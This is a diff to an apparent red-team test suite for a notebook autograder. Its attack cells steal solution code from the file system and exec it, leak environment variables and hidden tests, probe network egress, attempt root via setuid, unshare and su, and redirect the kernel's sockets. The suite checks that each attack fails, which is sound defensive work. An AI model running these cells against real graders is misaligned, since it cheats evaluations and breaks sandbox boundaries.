@@ -45,6 +45,7 @@ class Attack:
     note: str = ""                 # what grading must say in the row's reason, if anything
     base: str = "untouched"        # or "cheater"
     keeps_honest: bool = False     # the hidden checks still run: exactly the honest score, not less
+    tells: str = ""                # what the attack prints only if it worked (must not appear)
 
 
 # The cheater's ForwardMaskFast: the right share of masks on average, but always exactly that many.
@@ -108,36 +109,36 @@ try:
     ref = importlib.import_module(name)
     for f in ("MakeSchedule", "ForwardMask", "ForwardMaskFast"):
         globals()[f] = getattr(ref, f)
-    print("got it")
+    print("IMPORTED THE HIDDEN PACKAGE")
 except ImportError as err:
     print("no luck:", err)
-getattr(__builtins__, "__import__") if not isinstance(__builtins__, dict) else None
-""",), base="cheater", keeps_honest=True),
+""",), base="cheater", keeps_honest=True, tells="IMPORTED THE HIDDEN PACKAGE"),
     Attack("search_for_solutions", "search the whole file system for the course's solutions", ("""
 import os, time, json
+marker = "### BEGIN " + "SOLUTION"          # spelled so that this cell does not match itself
 found, started = [], time.time()
 for top in ("/", "/opt", "/home", "/tmp", "/run", "/root", "/work", "/srv", "/var"):
     for folder, dirs, files in os.walk(top):
         if time.time() - started > 12:
             break
-        if "maskdiff_solutions" in dirs or "source" in dirs:
-            found.append(folder)
+        if "maskdiff_solutions" in dirs:
+            found.append(os.path.join(folder, "maskdiff_solutions"))
         for name in files:
-            if name.endswith(".ipynb"):
+            if name.endswith((".ipynb", ".py")) and not folder.startswith(("/handin", "/home/student")):
                 try:
                     text = open(os.path.join(folder, name), errors="ignore").read()
                 except OSError:
                     continue
-                if "BEGIN SOLUTION" in text or "BEGIN HIDDEN TESTS" in text:
+                if marker in text and "ForwardMaskFast" in text:
                     found.append(os.path.join(folder, name))
-print("found:", found)
+print("FOUND COURSE SOLUTIONS" if found else "found nothing", found[:5])
 for path in found:
     if path.endswith(".ipynb"):
         for cell in json.load(open(path))["cells"]:
             text = "".join(cell["source"])
-            if "def MakeSchedule" in text or "def ForwardMask" in text:
-                exec(text.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""))
-""",), base="cheater"),
+            if "def ForwardMaskFast" in text:
+                exec(text.replace(marker, "").replace("### END " + "SOLUTION", ""))
+""",), base="cheater", tells="FOUND COURSE SOLUTIONS"),
     Attack("forge_checker_messages", "talk to the checker directly: forged verdicts, unknown and out-of-order checks, garbage",
            ("""
 import os, socket, struct, json
@@ -278,15 +279,15 @@ import socket
 for host, port in (("127.0.0.1", {port}), ("localhost", {port})):
     try:
         socket.create_connection((host, port), timeout=3).sendall(b"stolen")
-        print("reached", host, port)
+        print("REACHED THE GRADING MACHINE", host, port)
     except OSError as err:
         print(host, port, err)
 try:
     socket.getaddrinfo("pypi.org", 443)
-    print("resolved pypi.org")
+    print("REACHED THE GRADING MACHINE: resolved pypi.org")
 except OSError as err:
     print("dns:", err)
-""",)),
+""",), tells="REACHED THE GRADING MACHINE"),
     Attack("leak_into_feedback", "print the hidden tests, the grader's environment and files into feedback", ("""
 import os, glob
 print(os.environ)
@@ -327,7 +328,7 @@ while True:
 import os, subprocess
 for attempt in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/")):
     try:
-        attempt(); print("worked!")
+        attempt(); print("BECAME ROOT")
     except OSError as err:
         print(err)
 for command in (["unshare", "-r", "id"], ["mount", "-t", "tmpfs", "none", "/tmp"], ["su", "-c", "id"]):
@@ -335,7 +336,24 @@ for command in (["unshare", "-r", "id"], ["mount", "-t", "tmpfs", "none", "/tmp"
         print(subprocess.run(command, capture_output=True, text=True, timeout=10).stderr[:200])
     except (OSError, subprocess.SubprocessError) as err:
         print(err)
-""",)),
+""",), tells="BECAME ROOT"),
+    Attack("swap_kernel_sockets", "replace the kernel's own sockets with links, to redirect the grader", ("""
+import os, ipykernel
+folder = os.path.dirname(ipykernel.get_connection_file())
+for name in sorted(os.listdir(folder)):
+    path = os.path.join(folder, name)
+    try:
+        os.rename(path, path + ".old")
+        os.symlink("/run/maskdiff/c.sock", path)
+        print("SWAPPED", name)
+    except OSError as err:
+        print(name, err)
+try:
+    open(os.path.join(folder, "planted"), "w").write("x")
+    print("SWAPPED: planted a file")
+except OSError as err:
+    print(err)
+""",), tells="SWAPPED"),
 ]
 
 # Handed in as notebook 02 beside an honest notebook 01: each must fail alone, with a reason that
